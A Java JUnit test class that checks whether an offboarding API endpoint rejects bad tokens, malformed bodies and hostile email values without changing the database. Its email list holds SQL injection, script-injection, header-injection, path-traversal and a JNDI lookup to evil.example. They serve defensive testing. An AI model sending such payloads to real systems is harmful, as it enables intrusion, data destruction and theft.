package io.accessloop.lifecycle.resilience;

import io.accessloop.lifecycle.support.Db;
import io.accessloop.lifecycle.support.Roles;
import io.accessloop.testsupport.Tokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.smallrye.jwt.build.Jwt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile callers and hostile input on lifecycle's create endpoint {@code POST /api/v1/offboarding}: the right 4xx
 * with problem+json, no case, no event, nothing echoed as markup.
 */
@QuarkusTest
class OffboardingAbuseTest {

    private static final String STATE = "select (select count(*) from offboarding_case) + (select count(*) from outbox_event)"
            + " + (select count(*) from audit_entry) + (select count(*) from identity)";

    /**
     * Cases opened by earlier test classes keep writing (steps, ledger entries) until they close; the counts below
     * only mean "nothing changed" once every due case is done.
     */
    @BeforeEach
    void noCaseStillRunning() {
        await().atMost(Duration.ofSeconds(90)).until(() -> Db.count("select count(*) from offboarding_case "
                + "where status <> 'CLOSED' and effective_at <= now()") == 0);
    }

    static Stream<Arguments> badTokens() {
        String[] parts = Tokens.of("sam@example.com", "security").split("\\.");
        long past = Instant.now().minusSeconds(7200).getEpochSecond();
        return Stream.of(
                Arguments.of("no header", null, 401),
                Arguments.of("garbage", "Bearer x.y.z", 401),
                Arguments.of("signature stripped", "Bearer " + parts[0] + "." + parts[1] + ".", 401),
                Arguments.of("expired security token", "Bearer " + Jwt.claims().issuer("https://server.example.com")
                        .audience("https://service.example.com").subject("sam@example.com").claim("email", "sam@example.com")
                        .groups(Set.of("security")).issuedAt(past).expiresAt(past + 600)
                        .jws().keyId("1").sign("privateKey.jwk"), 401),
                Arguments.of("employee", Roles.employee("eve@example.com"), 403),
                Arguments.of("auditor", Roles.auditor(), 403));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badTokens")
    void aCallerWithoutTheRightTokenChangesNothing(String name, String authorization, int status) {
        String person = "victim-" + UUID.randomUUID() + "@example.com";
        long before = Db.count(STATE);
        var spec = given().contentType("application/json")
                .body(Map.of("email", person, "reason", "contract ended"));
        if (authorization != null) {
            spec.header("Authorization", authorization);
        }

        Response response = spec.post("/api/v1/offboarding");

        assertThat(response.statusCode()).isEqualTo(status);
        assertThat(response.asString()).doesNotContain(person);
        assertThat(Db.count(STATE)).isEqualTo(before);
    }

    static Stream<Arguments> badBodies() {
        String valid = "{\"email\":\"x" + UUID.randomUUID() + "@example.com\",\"reason\":\"left\"}";
        return Stream.of(
                Arguments.of("text/plain", valid, 415),
                Arguments.of("application/xml", "<case><email>a@example.com</email></case>", 415),
                Arguments.of("application/x-www-form-urlencoded", "email=a%40example.com&reason=left", 415),
                Arguments.of("application/json", "{", 400),
                Arguments.of("application/json", "{\"email\":", 400),
                Arguments.of("application/json", "{\"email\":\"a@example.com\",\"reason\":\"" + "r".repeat(100_000) + "\"}", 400));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("badBodies")
    void aMalformedBodyIsAProblemAndChangesNothing(String contentType, String body, int status) {
        long before = Db.count(STATE);

        Response response = given().header("Authorization", Roles.security()).contentType(contentType).body(body)
                .post("/api/v1/offboarding");

        assertThat(response.statusCode()).isEqualTo(status);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.asString()).doesNotContain("r".repeat(1000)).doesNotContain("Exception");
        assertThat(Db.count(STATE)).isEqualTo(before);
    }

    static Stream<Arguments> wrongJsonTypes() {
        String email = "\"email\":\"typed-" + UUID.randomUUID() + "@example.com\"";
        return Stream.of(
                Arguments.of("{\"email\":42,\"reason\":\"left\"}", "'email' must be text"),
                Arguments.of("{" + email + ",\"reason\":7}", "'reason' must be text"),
                Arguments.of("{" + email + ",\"reason\":true}", "'reason' must be text"),
                Arguments.of("{" + email + ",\"reason\":\"left\",\"employeeId\":1234}", "'employeeId' must be text"),
                Arguments.of("{" + email + ",\"reason\":\"left\",\"employeeId\":12.5}", "'employeeId' must be text"),
                // a number would be read as seconds since 1970: this one is in 2033, a silently scheduled case
                Arguments.of("{" + email + ",\"reason\":\"left\",\"effectiveAt\":2000000000}",
                        "'effectiveAt' must be an ISO-8601 date-time such as 2026-12-04T10:00:00Z"),
                Arguments.of("{" + email + ",\"reason\":\"left\",\"effectiveAt\":true}",
                        "'effectiveAt' must be an ISO-8601 date-time such as 2026-12-04T10:00:00Z"));
    }

    /** Resilience finding 9: numbers and booleans are not read as text, nor numbers as times. */
    @ParameterizedTest(name = "{0}")
    @MethodSource("wrongJsonTypes")
    void aFieldOfAnotherJsonTypeIsAProblemNamingItAndChangesNothing(String body, String detail) {
        long before = Db.count(STATE);

        Response response = given().header("Authorization", Roles.security()).contentType("application/json")
                .header("Idempotency-Key", UUID.randomUUID().toString()).body(body).post("/api/v1/offboarding");

        assertThat(response.statusCode()).as(response.asString()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.jsonPath().getString("type")).isEqualTo("urn:accessloop:problem:malformed-json");
        assertThat(response.jsonPath().getString("detail")).isEqualTo(detail);
        assertThat(Db.count(STATE)).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "' OR '1'='1",
            "x' OR 1=1 --@example.com",
            "a@example.com'; drop table offboarding_case; --",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>@example.com",
            "alice@example.com\r\nBcc: all@example.com",
            "alice@example.com\nX-Injected: 1",
            "../../../../etc/passwd",
            "alice@@example.com",
            "alice@",
            "@example.com",
            "alice example@example.com",
            "${jndi:ldap://evil.example/a}",
            "alice\u202E@example.com",
            "al\u200Bice@example.com",
            "\u0430lice@example.com",
            "alice@ex\u0430mple.com",
            "<script>@x.com",
            "al..ice@example.com",
            "alice@example",
            " alice@example.com",
            "",
            " "})
    void aHostileEmailIsRefusedAndChangesNothing(String email) {
        long before = Db.count(STATE);

        Response response = given().header("Authorization", Roles.security()).contentType("application/json")
                .header("Idempotency-Key", UUID.randomUUID().toString())
                .body(Map.of("email", email, "reason", "contract ended")).post("/api/v1/offboarding");

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.headers().hasHeaderWithName("X-Injected")).isFalse();
        assertThat(response.asString()).doesNotContain("\r\n");
        assertThat(Db.count(STATE)).isEqualTo(before);
    }
}
